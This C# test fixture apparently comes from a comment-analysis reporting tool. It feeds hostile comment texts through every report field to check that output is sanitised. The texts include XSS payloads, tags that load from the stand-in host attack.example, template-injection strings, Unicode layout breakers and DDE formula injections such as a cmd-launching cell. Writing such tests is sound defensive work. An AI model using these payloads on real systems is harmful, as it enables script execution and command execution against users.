using ReactionMiner.Comments;
using ReactionMiner.Counting;
using ReactionMiner.Reactions;
using ReactionMiner.Tests.Counting;

namespace ReactionMiner.Tests.Reports;

/// <summary>Comments that try to run script, to call home, to break the layout, to forge a number or to become a formula. Whatever runs
/// sets <c>window.pwned</c>, and whatever calls home asks for <c>attack.example</c>.</summary>
internal static class Attacks
{
    private const string Script = "window.pwned=1";

    public static readonly IReadOnlyList<string> Texts =
    [
        // Markup and script.
        $"<script>{Script}</script>",
        $"</script><script>{Script}</script>",
        $"<!--<script>{Script}</script>-->",
        $"--><script>{Script}</script><!--",
        $"<ScRiPt src=\"https://attack.example/x.js\"></sCrIpT>",
        $"<img src=x onerror={Script}>",
        $"<svg onload={Script}><animate onbegin={Script} attributeName=x></svg>",
        $"<svg><script>{Script}</script></svg>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Script}>",
        $"\"><input autofocus onfocus={Script}>",
        $"' onmouseover='{Script}' x='",
        $"<details open ontoggle={Script}>open</details>",
        $"<body onload={Script}>",
        $"<iframe srcdoc=\"<script>parent.{Script}</script>\"></iframe>",
        "<iframe src=https://attack.example></iframe>",
        $"<a href=\"javascript:{Script}\">the licence</a>",
        $"<a href=data:text/html;base64,PHNjcmlwdD4>the price</a>",
        "<form action=https://attack.example><button>vote</button></form>",
        $"<template><script>{Script}</script></template>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Script}>\">",
        "</blockquote></figure></section></main></body></html>",
        "</title></style></textarea></select></noscript>",
        // Things that load.
        "<meta http-equiv=refresh content=\"0;url=https://attack.example\">",
        "<base href=https://attack.example/>",
        "<link rel=stylesheet href=https://attack.example/x.css>",
        "<style>@import 'https://attack.example/x.css';*{display:none!important}</style>",
        "<p style=\"position:fixed;inset:0;background:url(https://attack.example/x.png)\">cover</p>",
        "<img src=https://attack.example/x.png><video poster=https://attack.example/x.png>",
        // Templates and data.
        "@(1+1) @Model @{ throw; } @page @code",
        "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} #{7*7} <%= 7*7 %>",
        $"\",\"themes\":[0]}}]}}</script><script>{Script}</script>",
        "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
        "line\u2028separator\u2029paragraph",
        "\\\"'`;window.pwned=1//",
        "__proto__ constructor toString $& $1 $$",
        // Text that breaks layouts or lies.
        "\u202Estnemmoc % 99\u202C and \u2067override\u2069 \u200Fdone",
        "\u202E never closed 1 of 99",
        "\u2066\u2067\u2068\u202A\u202B\u202D opened and never closed",
        string.Concat(Enumerable.Repeat("Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u0310\u0312\u0313\u0314\u0315", 40)),
        new string('W', 10_000),
        string.Concat(Enumerable.Repeat("long words and no end of them ", 330)),
        string.Concat(Enumerable.Repeat("\n", 2_000)) + "far below",
        "\0\u0001\u0007\b\u000B\u000C\u001b[31mred\u001b[0m\u007F\u0080\u0085\u009b2J",
        "\uD83D half a pair \uDE00",
        "\uFFFE\uFFFF\uFEFF\uFDD0 no characters",
        "\U000E0001\U000E0041 tags and \U0010FFFF the last",
        "🏴‍☠️👨‍👩‍👧‍👦👍🏽 مرحبا שלום 日本語 ﷽",
        "   ",
        // Formulas.
        "=HYPERLINK(\"https://attack.example\",\"sum\")",
        "=cmd|' /C calc'!A0",
        "+1+1|cmd",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "\";=1+1",
        ",=1+1",
    ];

    /// <summary>Each text under every theme, by an author of the same name, with the text as its id.</summary>
    public static IReadOnlyList<ClassifiedComment> Comments { get; } =
    [
        .. Texts.Select((text, number) => Section.Says(text + number, text, Section.Cost, Section.Design, Section.Closure)
            .Sure(0.99f - (number / 1000f))
            .In(text.Length < 40 ? text : "en")
            .With(comment => comment with { AuthorId = "UC" + number, AuthorName = text, LikeCount = 1000 - number })),
        .. Section.Many(30, "an ordinary comment"),
    ];

    /// <summary>The comments under a video and themes that attack, too.</summary>
    /// <param name="attack">Title of all.</param>
    public static ViewerReactions Under(string attack)
    {
        var themes = new ThemeSet(attack, attack, [.. Section.Themes.Themes.Select(theme => theme with { Title = attack })]);
        var model = Section.Model with { Id = attack, Version = attack, ThemeSet = themes };
        var video = new Video(Section.Video) { Title = attack, ChannelTitle = attack, PublishedAt = Section.Opening };
        return Section.Count(Comments, new CountingOptions(attack, model)
        {
            Videos = [video, new Video(VideoId.ForFile(attack)) { Title = attack }],
            Gaps = [new CoverageGap(3, attack, attack)],
            Examples = 100,
        }) with
        {
            Related = [new RelatedVideo(video with { Id = VideoId.ForFile(attack) }, 9, [new SharedTheme(themes.Themes[0], 4)])],
            Warnings = [attack],
            Brief = Brief(attack),
        };
    }

    private static CreatorBrief Brief(string attack)
    {
        var remarks = new Remarks(Texts.Count, [.. Texts.Select(text => new Remark(text, Section.Video.Value, text, 3, [VideoAspect.Sound]))]);
        return new CreatorBrief
        {
            KnowsReplies = true,
            KnowsAuthors = true,
            UnansweredQuestions = remarks,
            Questions = Texts.Count,
            Requests = remarks,
            Praise = remarks,
            Complaints = remarks,
            ComplaintsByAspect = [new(VideoAspect.Sound, Texts.Count)],
            Moments = [.. remarks.Shown.Select(remark => new CitedMoment(attack, TimeSpan.FromSeconds(65), 2, [remark]))],
            ChapterLists = remarks,
            Replies = new CreatorReplies(IsKnown: true, 1, 2, 1, 0),
            ToThank = [.. Texts.Select(text => new HelpfulCommenter(text, 5, 2, text, attack))],
        };
    }
}
